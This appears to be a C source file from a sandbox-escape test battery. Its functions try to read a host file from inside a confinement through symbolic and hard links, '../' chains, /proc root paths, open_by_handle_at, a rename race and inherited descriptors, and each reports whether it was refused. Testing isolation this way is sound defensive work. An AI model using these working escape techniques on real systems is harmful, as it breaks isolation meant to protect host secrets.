/* Reading a file of the host (its absolute path is the argument), and stray descriptors. */
#include "attacks.h"

static void read_or_refuse(const char *path, const char *how)
{
    int file = open(path, O_RDONLY);
    if (file < 0)
        refused("open %s (%s)", path, how);
    report_if_readable(file, how);
    refused_because("nothing to read in %s (%s)", path, how);
}

static void secret_direct(int count, char **arguments)
{
    read_or_refuse(text_argument(count, arguments, 0), "by its own path");
}

static void secret_by_symbolic_link(int count, char **arguments)
{
    const char *secret = text_argument(count, arguments, 0);
    unlink("link-to-secret");
    if (symlink(secret, "link-to-secret") < 0)
        refused("symlink");
    read_or_refuse("link-to-secret", "by a symbolic link");
}

/* In the directory of the secret, because a hard link cannot leave its mount. */
static void secret_by_hard_link(int count, char **arguments)
{
    const char *secret = text_argument(count, arguments, 0);
    char path[4096];
    snprintf(path, sizeof path, "%s.hard-link", secret);
    unlink(path);
    if (link(secret, path) < 0)
        refused("link");
    int file = open(path, O_RDONLY);
    unlink(path);
    if (file < 0)
        refused("open %s", path);
    report_if_readable(file, "by a hard link");
    refused_because("nothing to read by a hard link");
}

static void secret_by_dots(int count, char **arguments)
{
    char path[4096] = "";
    for (int level = 0; level < 64; level++)
        strcat(path, "../");
    strncat(path, text_argument(count, arguments, 0), sizeof path - 256);
    read_or_refuse(path, "by ..");
}

static void secret_by_proc(int count, char **arguments)
{
    const char *secret = text_argument(count, arguments, 0);
    static const char *const DOORS[] = {"/proc/self/root", "/proc/self/task/self/root",
                                        "/proc/thread-self/root", "/proc/1/root",
                                        "/proc/self/cwd/../../../../../../../../..",
                                        "/proc/self/fd/0/../../../../../../../../.."};
    for (size_t i = 0; i < sizeof DOORS / sizeof *DOORS; i++) {
        char path[4096];
        snprintf(path, sizeof path, "%s%s", DOORS[i], secret);
        int file = open(path, O_RDONLY);
        if (file >= 0)
            report_if_readable(file, DOORS[i]);
    }
    refused("every way through /proc");
}

/*
 * Opens by file handle, which knows nothing of mounts: inode 2 of an ext4 file system is its root,
 * whatever part of it is bound here.
 */
static void secret_by_handle(int count, char **arguments)
{
    const char *secret = text_argument(count, arguments, 0);
    struct {
        struct file_handle head;
        uint32_t inode_and_generation[2];
    } root = {.inode_and_generation = {2, 0}};
    root.head.handle_bytes = 8;
    root.head.handle_type = 1; /* FILEID_INO32_GEN */
    static const char *const MOUNTS[] = {"/", "/usr", "/lib", "/bin"};
    for (size_t i = 0; i < sizeof MOUNTS / sizeof *MOUNTS; i++) {
        int mount = open(MOUNTS[i], O_RDONLY | O_DIRECTORY);
        int directory = open_by_handle_at(mount, &root.head, O_RDONLY | O_DIRECTORY);
        int file = directory < 0 ? -1 : openat(directory, secret + 1, O_RDONLY);
        if (file >= 0)
            report_if_readable(file, "by a file handle");
    }
    refused("open_by_handle_at");
}

/* A child swaps a directory with a symbolic link to the secret's, while the parent looks inside. */
static void secret_by_race(int count, char **arguments)
{
    char *secret = strdup(text_argument(count, arguments, 0));
    char *name = strrchr(secret, '/');
    if (!name)
        wrong_usage("the path of the secret must be absolute");
    *name++ = 0;
    char path[4096];
    snprintf(path, sizeof path, "swapped/%s", name);
    mkdir("swapped", 0700);
    int placeholder = open(path, O_WRONLY | O_CREAT, 0600); /* empty: nothing to read in it */
    close(placeholder);
    unlink("other");
    if (symlink(*secret ? secret : "/", "other") < 0)
        refused("symlink");
    struct shared_page *shared = new_shared_page();
    pid_t child = fork();
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        while (!atomic_load(&shared->stop)) {
            syscall(SYS_renameat2, AT_FDCWD, "swapped", AT_FDCWD, "other", 2 /* EXCHANGE */);
            atomic_fetch_add(&shared->tickets, 1);
        }
        _exit(0);
    }
    /* On a busy machine the two take turns seldom: so many turns count, not time. */
    enum { ROUNDS = 20000, SWAPS = 20000 };
    long end = now_milliseconds() + PATIENCE;
    int error = 0;
    for (long round = 0; (round < ROUNDS || atomic_load(&shared->tickets) < SWAPS) &&
                         now_milliseconds() < end;
         round++) {
        int file = open(path, O_RDONLY);
        if (file < 0)
            error = errno;
        else {
            char text[33] = "";
            if (read(file, text, sizeof text - 1) > 0) {
                atomic_store(&shared->stop, 1);
                reached("won the race: %s", text);
            }
            close(file);
        }
    }
    atomic_store(&shared->stop, 1);
    errno = error;
    refused("every open through the swapped directory");
}

/* Anything open beside the three standard descriptors came from outside. */
static void stray_descriptors(int count, char **arguments)
{
    (void)count, (void)arguments;
    char list[256] = "";
    int strays = 0;
    for (int number = 3; number < 65536; number++) {
        if (fcntl(number, F_GETFD) < 0)
            continue;
        if (strays++ < 16)
            snprintf(list + strlen(list), sizeof list - strlen(list), " %d", number);
    }
    if (strays)
        reached("%d stray descriptors:%s", strays, list);
    refused_because("there is no descriptor above 2");
}

/* From an open directory of the host, .. leads to the host's root. */
static void secret_by_descriptor(int count, char **arguments)
{
    const char *secret = text_argument(count, arguments, 0);
    for (int number = 0; number < 1024; number++) {
        if (fchdir(number) < 0)
            continue;
        for (int level = 0; level < 64; level++)
            if (chdir("..") < 0)
                break;
        int file = open(secret + 1, O_RDONLY);
        if (file >= 0)
            report_if_readable(file, "through an inherited directory");
        refused("open %s from directory descriptor %d", secret, number);
    }
    refused_because("no descriptor is a directory");
}

const struct attack secret_attacks[] = {
    {"secret-direct", secret_direct},
    {"secret-by-symbolic-link", secret_by_symbolic_link},
    {"secret-by-hard-link", secret_by_hard_link},
    {"secret-by-dots", secret_by_dots},
    {"secret-by-proc", secret_by_proc},
    {"secret-by-handle", secret_by_handle},
    {"secret-by-race", secret_by_race},
    {"secret-by-descriptor", secret_by_descriptor},
    {"stray-descriptors", stray_descriptors},
    {NULL, NULL},
};
